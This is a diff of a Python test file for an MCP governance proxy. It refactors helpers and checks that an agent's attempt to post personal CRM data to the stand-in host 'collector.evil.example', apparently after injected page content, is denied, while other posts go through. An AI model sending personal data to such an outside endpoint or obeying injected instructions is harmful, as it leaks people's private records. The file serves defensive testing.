@@ -10,22 +10,12 @@ session over stdio and over streamable HTTP.
 from __future__ import annotations
 
 import json
-import os
 import re
-import subprocess
 import sys
-import threading
-from collections.abc import AsyncIterator, Iterator
-from contextlib import asynccontextmanager, contextmanager
-from typing import Any
 
 import pytest
-from conftest import AGENT, CLAW_GOV, HERE, Env
-from mcp import ClientSession, StdioServerParameters, types
-from mcp.client.stdio import stdio_client
-from mcp.client.streamable_http import streamable_http_client
-
-from claw_governance import Governor
+from mcp import ClientSession, types
+from mcp_support import AGENT, CLAW_GOV, HERE, Env, http_proxy, http_session, stdio_session, text_of, trail
 
 CRM = HERE / "crm_server.py"
 OUTSIDE = "https://collector.evil.example/drop"
@@ -66,63 +56,10 @@ def proxy_args(env: Env, *extra: str) -> list[str]:
     ]
 
 
-@asynccontextmanager
-async def stdio_proxy(env: Env) -> AsyncIterator[ClientSession]:
-    """A real MCP client session over stdio with a `claw-gov mcp proxy` process of its own."""
-    params = StdioServerParameters(command=CLAW_GOV, args=proxy_args(env), env=dict(os.environ))
-    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
-        await session.initialize()
-        yield session
-
-
-@contextmanager
-def http_proxy(env: Env) -> Iterator[str]:
-    """One `claw-gov mcp proxy --http` process on a free port; yields its URL."""
-    proc = subprocess.Popen(
-        [CLAW_GOV, *proxy_args(env, "--http")],
-        stdin=subprocess.DEVNULL,
-        stdout=subprocess.DEVNULL,
-        stderr=subprocess.PIPE,
-        text=True,
-    )
-    try:
-        assert proc.stderr is not None
-        for line in proc.stderr:
-            match = re.search(r"on (http://127\.0\.0\.1:\d+/mcp)", line)
-            if match:
-                threading.Thread(target=proc.stderr.read, daemon=True).start()  # keep draining
-                yield match.group(1)
-                break
-        else:
-            raise AssertionError(f"the proxy did not start (exit {proc.wait()})")
-    finally:
-        proc.terminate()
-        proc.wait(timeout=30)
-
-
-@asynccontextmanager
-async def http_client(url: str) -> AsyncIterator[ClientSession]:
-    """A real MCP client session (its own connection) over streamable HTTP."""
-    async with streamable_http_client(url) as (read, write, _), ClientSession(read, write) as session:
-        await session.initialize()
-        yield session
-
-
-def text_of(result: types.CallToolResult) -> str:
-    return " ".join(b.text for b in result.content if isinstance(b, types.TextContent))
-
-
 def posted(env: Env) -> list[dict[str, str]]:
     """What the real server's http_post tool actually sent (its side-effect file)."""
     path = env.effects / "POSTED.jsonl"
     return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
-
-
-def decisions(env: Env) -> list[dict[str, Any]]:
-    with Governor(
-        policy_path=env.root / "policies", audit_path=env.root / "audit", identity_path=env.root / "identities"
-    ) as gov:
-        return gov.audit.query(type="policy_decision")
 
 
 async def scripted_agent(session: ClientSession) -> types.CallToolResult:
@@ -136,7 +73,7 @@ async def scripted_agent(session: ClientSession) -> types.CallToolResult:
 
 
 async def test_injected_exfiltration_is_denied_over_stdio(crm: Env) -> None:
-    async with stdio_proxy(crm) as session:
+    async with stdio_session(CLAW_GOV, proxy_args(crm)) as session:
         # Before anything personal was read, posting outside is allowed: the rule is about the flow.
         first = await session.call_tool("http_post", {"url": OUTSIDE, "body": "shipping rates, thanks"})
         assert first.isError is False, text_of(first)
@@ -158,7 +95,7 @@ async def test_injected_exfiltration_is_denied_over_stdio(crm: Env) -> None:
     sent = posted(crm)
     assert [p["url"] for p in sent] == [OUTSIDE, "https://internal.example.com/crm-notes"]
     assert not any("Mustermann" in p["body"] for p in sent)  # the record never left
-    outcomes = [(e["action"], e["decision"]["outcome"]) for e in decisions(crm)]
+    outcomes = [(e["action"], e["decision"]["outcome"]) for e in trail(crm, type="policy_decision")]
     assert outcomes == [
         ("mcp:crm/http_post", "allow"),
         ("mcp:crm/fetch_page", "allow"),
@@ -170,8 +107,8 @@ async def test_injected_exfiltration_is_denied_over_stdio(crm: Env) -> None:
 
 
 async def test_two_connections_of_one_proxy_do_not_share_labels(crm: Env) -> None:
-    with http_proxy(crm) as url:
-        async with http_client(url) as victim, http_client(url) as other:
+    with http_proxy(proxy_args(crm, "--http")) as url:
+        async with http_session(url) as victim, http_session(url) as other:
             post = await scripted_agent(victim)
             assert post.isError is True and "denied by governance policy" in text_of(post)
             # The other client of the same proxy process never read personal data: its post goes through.
@@ -181,5 +118,5 @@ async def test_two_connections_of_one_proxy_do_not_share_labels(crm: Env) -> Non
             again = await victim.call_tool("http_post", {"url": OUTSIDE, "body": "retry"})
             assert again.isError is True
     assert posted(crm) == [{"url": OUTSIDE, "body": "newsletter signup"}]
-    denied = [e for e in decisions(crm) if e["decision"]["outcome"] == "deny"]
+    denied = [e for e in trail(crm, type="policy_decision") if e["decision"]["outcome"] == "deny"]
     assert [e["action"] for e in denied] == ["mcp:crm/http_post", "mcp:crm/http_post"]
